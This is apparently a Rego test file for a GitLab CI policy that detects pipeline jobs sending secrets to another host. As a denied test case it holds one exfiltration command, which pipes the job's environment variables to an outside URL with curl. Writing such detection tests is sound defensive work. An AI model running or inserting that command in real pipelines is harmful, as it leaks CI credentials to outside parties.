package policies.gitlab_ci.no_data_sent_away_test

import data.policies.gitlab_ci.no_data_sent_away

_input(text) := {"subject": {
	"address": "job a",
	"config": {},
	"views": {"scripts": [{"path": ["script", 0], "text": text}]},
}}

test_deny_environment if {
	findings := no_data_sent_away.deny with input as _input("env | curl -d @- https://example.com")
	findings == {{
		"message": "job a sends secrets of the job to another host",
		"path": ["script", 0, "env | curl -d @- https://example.com"],
	}}
}

test_allow_request if {
	findings := no_data_sent_away.deny with input as _input("curl -fsS https://example.com/health")
	findings == set()
}

test_applies_to_scripts if {
	no_data_sent_away.applies with input as _input("make")
	not no_data_sent_away.applies with input as {"subject": {"views": {"scripts": []}}}
}
